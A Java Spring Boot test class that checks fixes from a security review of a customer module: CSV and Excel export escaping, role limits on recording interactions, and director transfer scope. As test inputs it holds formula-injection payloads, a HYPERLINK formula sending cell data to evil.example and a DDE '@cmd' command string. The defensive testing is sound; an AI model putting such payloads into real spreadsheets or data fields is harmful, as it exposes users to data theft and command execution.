package org.kehu.customer;

import static org.assertj.core.api.Assertions.assertThat;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.csrf;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.multipart;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.post;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.content;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.flash;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.jsonPath;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.status;

import java.io.ByteArrayInputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.zip.ZipFile;

import org.dhatim.fastexcel.reader.ReadableWorkbook;
import org.dhatim.fastexcel.reader.Row;
import org.junit.jupiter.api.Test;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.webmvc.test.autoconfigure.AutoConfigureMockMvc;
import org.springframework.http.MediaType;
import org.springframework.mock.web.MockMultipartFile;
import org.springframework.transaction.annotation.Transactional;

import de.siegmar.fastcsv.reader.CsvReader;
import de.siegmar.fastcsv.reader.CsvRecord;

/**
 * What the security review found in the customer module: formulas in exports, interactions written by roles that
 * only read customers, transfers to owners outside the director's scope.
 */
@SpringBootTest
@AutoConfigureMockMvc
@Transactional
class CustomerSecurityMendsTests extends CustomerTestSupport {

    static final String FORMULA = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")";

    private static final String INTERACTION = "{\"occurredAt\":\"2026-03-01T10:30\",\"channelCode\":\"VISIT\",\"summary\":\"%s\"}";

    @Test
    void csvExportsNeutraliseACustomerNamedLikeAFormulaOnPageAndApi() throws Exception {
        long id = createNamed(FORMULA);
        assertThat(id).isGreaterThan(127);
        createNamed("+SUM(1,2)");
        createNamed("@cmd|' /C calc'!A0");

        for (String url : List.of("/customers/export", "/api/v1/customers/export")) {
            String csv = mvc.perform(get(url).param("format", "csv").with(as("manager")))
                    .andExpect(status().isOk()).andReturn().getResponse().getContentAsString(StandardCharsets.UTF_8);
            List<String> names = names(csv);
            assertThat(names).as(url).contains("'" + FORMULA, "'+SUM(1,2)", "'@cmd|' /C calc'!A0")
                    .doesNotContain(FORMULA);
            assertThat(names).allSatisfy(name -> assertThat(name).doesNotStartWith("=").doesNotStartWith("+")
                    .doesNotStartWith("-").doesNotStartWith("@"));
        }
    }

    @Test
    void excelExportKeepsAFormulaLikeNameAsPlainText() throws Exception {
        createNamed(FORMULA);
        byte[] xlsx = mvc.perform(get("/customers/export").param("format", "xlsx").param("q", "HYPERLINK").with(as("manager")))
                .andExpect(status().isOk()).andReturn().getResponse().getContentAsByteArray();

        try (ReadableWorkbook wb = new ReadableWorkbook(new ByteArrayInputStream(xlsx))) {
            List<Row> rows = wb.getFirstSheet().read();
            assertThat(rows).hasSizeGreaterThan(1);
            assertThat(rows.get(1).getCellText(1)).isEqualTo(FORMULA);
        }
        Path file = Files.createTempFile("customers", ".xlsx");
        try {
            Files.write(file, xlsx);
            try (ZipFile zip = new ZipFile(file.toFile())) {
                String sheet = new String(zip.getInputStream(zip.getEntry("xl/worksheets/sheet1.xml")).readAllBytes(),
                        StandardCharsets.UTF_8);
                assertThat(sheet).as("no formula cells").doesNotContain("<f>").doesNotContain("<f ");
            }
        } finally {
            Files.delete(file);
        }
    }

    @Test
    void executiveAndMarketingMayReadButNotRecordInteractions() throws Exception {
        long id = createCustomer("manager", "荆州交往权限测试纺织厂").get("id").asLong();
        for (String reader : List.of("executive", "marketing")) {
            mvc.perform(get("/api/v1/customers/" + id + "/interactions").with(as(reader))).andExpect(status().isOk());
            mvc.perform(post("/api/v1/customers/" + id + "/interactions").with(as(reader)).with(csrf())
                            .contentType(MediaType.APPLICATION_JSON).content(INTERACTION.formatted("无权记录")))
                    .andExpect(status().isForbidden());
            mvc.perform(multipart("/api/v1/customers/" + id + "/interactions").file(interactionPart("无权附件"))
                            .file(new MockMultipartFile("files", "报价.txt", "text/plain", "x".getBytes()))
                            .with(as(reader)).with(csrf()))
                    .andExpect(status().isForbidden());
            mvc.perform(multipart("/customers/" + id + "/interactions").param("occurredAt", "2026-03-01T10:30")
                    .param("channelCode", "VISIT").param("summary", "无权页面记录").with(as(reader)).with(csrf()))
                    .andExpect(status().isForbidden());
            String page = mvc.perform(get("/customers/" + id).with(as(reader))).andExpect(status().isOk())
                    .andReturn().getResponse().getContentAsString();
            assertThat(page).as(reader).doesNotContain("id=\"interaction-form\"");
        }
        assertThat(jdbc.sql("select count(*) from interaction where customer_id = :id").param("id", id)
                .query(Long.class).single()).isZero();

        mvc.perform(post("/api/v1/customers/" + id + "/interactions").with(as("manager")).with(csrf())
                        .contentType(MediaType.APPLICATION_JSON).content(INTERACTION.formatted("拜访采购部")))
                .andExpect(status().isCreated());
        mvc.perform(multipart("/api/v1/customers/" + id + "/interactions").file(interactionPart("寄送报价"))
                        .file(new MockMultipartFile("files", "报价.txt", "text/plain", "x".getBytes()))
                        .with(as("manager")).with(csrf()))
                .andExpect(status().isCreated()).andExpect(jsonPath("$.attachments.length()").value(1));
        assertThat(mvc.perform(get("/customers/" + id).with(as("manager"))).andReturn().getResponse().getContentAsString())
                .contains("id=\"interaction-form\"");
    }

    @Test
    void serviceStaffRecordInteractionsAndTheRoleEditorOffersThePermission() throws Exception {
        long id = createCustomer("manager", "宜宾服务交往测试酒厂").get("id").asLong();
        mvc.perform(post("/api/v1/customers/" + id + "/interactions").with(as("service")).with(csrf())
                        .contentType(MediaType.APPLICATION_JSON).content(INTERACTION.formatted("回访")))
                .andExpect(status().isCreated());

        long role = jdbc.sql("select id from role where code = 'MARKETING'").query(Long.class).single();
        String editor = mvc.perform(get("/admin/roles/" + role).param("lang", "en").with(as("admin")))
                .andExpect(status().isOk()).andReturn().getResponse().getContentAsString();
        assertThat(editor).contains("id=\"perm-interaction-record\"", ">Interactions<", ">Record<");
        assertThat(jdbc.sql("""
                select r.code from role r join role_permission p on p.role_id = r.id and p.permission = 'interaction.record'
                 where r.system_role order by r.code""").query(String.class).list())
                .containsExactly("ACCOUNT_MANAGER", "ADMIN", "SALES_DIRECTOR", "SERVICE_MANAGER", "SERVICE_STAFF");
    }

    @Test
    void directorCannotTransferCustomersToAnOwnerOutsideTheirScope() throws Exception {
        long first = createCustomer("manager", "黄石移交范围测试矿机厂").get("id").asLong();
        long second = createCustomer("manager", "孝感移交范围测试纸业").get("id").asLong();
        long outside = userId("service");

        mvc.perform(post("/api/v1/customers/transfer").with(as("director")).with(csrf())
                        .contentType(MediaType.APPLICATION_JSON)
                        .content("{\"customerIds\":[" + first + "," + second + "],\"ownerId\":" + outside + "}"))
                .andExpect(status().isBadRequest())
                .andExpect(content().contentTypeCompatibleWith(MediaType.APPLICATION_PROBLEM_JSON))
                .andExpect(content().string(org.hamcrest.Matchers.containsString("ownerId")));
        mvc.perform(post("/customers/transfer").with(as("director")).with(csrf())
                        .param("ids", String.valueOf(first), String.valueOf(second)).param("ownerId", String.valueOf(outside)))
                .andExpect(status().is3xxRedirection()).andExpect(flash().attribute("transferError", "customer.error.owner"));

        assertThat(jdbc.sql("select count(*) from customer where id in (:a, :b) and owner_id = :m").param("a", first)
                .param("b", second).param("m", userId("manager")).query(Long.class).single()).isEqualTo(2);
        assertThat(jdbc.sql("select count(*) from customer_ownership where customer_id in (:a, :b)").param("a", first)
                .param("b", second).query(Long.class).single()).isEqualTo(2);

        String list = mvc.perform(get("/customers").with(as("director"))).andReturn().getResponse().getContentAsString();
        String targets = list.substring(list.indexOf("id=\"transfer-owner\""));
        targets = targets.substring(0, targets.indexOf("</select>"));
        assertThat(targets).as("the transfer targets").contains("value=\"" + userId("director") + "\"")
                .doesNotContain("value=\"" + outside + "\"").doesNotContain("value=\"" + userId("manager2") + "\"");
        mvc.perform(post("/api/v1/customers/transfer").with(as("director")).with(csrf())
                        .contentType(MediaType.APPLICATION_JSON)
                        .content("{\"customerIds\":[" + first + "],\"ownerId\":" + userId("manager2") + "}"))
                .andExpect(status().isBadRequest());
        mvc.perform(post("/api/v1/customers/transfer").with(as("director")).with(csrf())
                        .contentType(MediaType.APPLICATION_JSON)
                        .content("{\"customerIds\":[" + first + "],\"ownerId\":" + userId("director") + "}"))
                .andExpect(status().isOk()).andExpect(jsonPath("$.transferred").value(1));
    }

    /** A customer of {@code manager} with a name that needs escaping in JSON. */
    private long createNamed(String name) throws Exception {
        return createCustomerJson("manager", json.writeValueAsString(java.util.Map.of("name", name))).get("id").asLong();
    }

    private static MockMultipartFile interactionPart(String summary) {
        return new MockMultipartFile("interaction", "", MediaType.APPLICATION_JSON_VALUE,
                INTERACTION.formatted(summary).getBytes(StandardCharsets.UTF_8));
    }

    /** The customer names of a customer export: the second column. */
    private static List<String> names(String csv) {
        try (CsvReader<CsvRecord> reader = CsvReader.builder().ofCsvRecord(csv.substring(1))) {
            return reader.stream().skip(1).map(r -> r.getField(1)).toList();
        } catch (java.io.IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
    }
}
